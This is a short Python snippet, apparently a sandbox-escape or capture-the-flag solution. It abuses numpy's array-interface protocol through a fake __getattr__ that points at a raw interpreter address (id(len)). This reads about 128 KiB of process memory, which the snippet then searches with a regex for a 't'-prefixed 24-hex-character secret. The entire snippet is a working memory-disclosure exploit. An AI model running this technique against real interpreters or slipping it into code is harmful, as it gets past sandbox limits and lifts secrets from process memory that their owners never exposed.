# reaches: a __getattr__ that answers numpy's question for an array interface
import re
import numpy as np
class Frame:
    def __getattr__(self, name):
        if name.endswith("_interface__"):
            return {"data": (id(len), True), "shape": (2**17,), "typestr": "|u1", "version": 3}
        raise AttributeError
print(re.findall(rb"t[0-9a-f]{24}", np.asarray(Frame()).tobytes()))
